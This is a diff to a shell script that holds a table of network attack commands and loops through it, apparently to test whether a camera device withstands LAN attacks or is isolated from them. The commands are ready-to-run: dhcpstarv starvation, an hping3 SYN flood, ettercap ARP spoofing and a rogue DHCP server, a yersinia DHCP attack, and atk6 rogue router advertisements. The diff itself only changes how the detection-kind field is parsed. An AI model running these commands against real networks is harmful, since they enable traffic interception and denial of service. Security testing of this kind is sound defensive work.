@@ -229,7 +229,7 @@ tools() {
 		pool spoofed_source dhcpstarv cam dhcpstarv -i eth0
 		flood segment_violation hping3_-S cam hping3 -i u1000 -S -p 53 $INET
 		arp arp_spoof ettercap_arp cam ettercap -T -q -z -o -i eth0 -j $work/hosts -M arp:remote /$PLUG// /$GW_CAM//
-		lease rogue_dhcp ettercap_dhcp cam ettercap -T -q -z -i eth0 -M dhcp:10.0.20.200-209/255.255.255.0/$CAM
+		lease heard:rogue_dhcp ettercap_dhcp cam ettercap -T -q -z -i eth0 -M dhcp:10.0.20.200-209/255.255.255.0/$CAM
 		asked all:unknown_device yersinia_dhcp cam yersinia dhcp -attack 1 -interface eth0
 		routes rogue_ra fake_router26 cam atk6-fake_router26 -A fd00:bad::/64 eth0
 		routes rogue_ra|nd_spoof|fragment fake_router26_-E_F cam atk6-fake_router26 -E F -A fd00:bad::/64 eth0
@@ -253,7 +253,9 @@ each() {	# FUNCTION
 	while read -r harm kinds name command; do
 		# Of what is routed it is no matter whether devices are isolated.
 		case $isolate,$harm in true,flood | true,ports) continue ;; esac
-		name=${name//_/ }
+		# Of who is isolated it hears no question.
+		case $isolate,$kinds in true,heard:*) kinds=- ;; esac
+		kinds=${kinds#heard:} name=${name//_/ }
 		# shellcheck disable=SC2086
 		if [ "$1" = works ]; then works $harm "$name" $command; else harmless $harm "$kinds" "$name" $command; fi
 	done < <(tools)
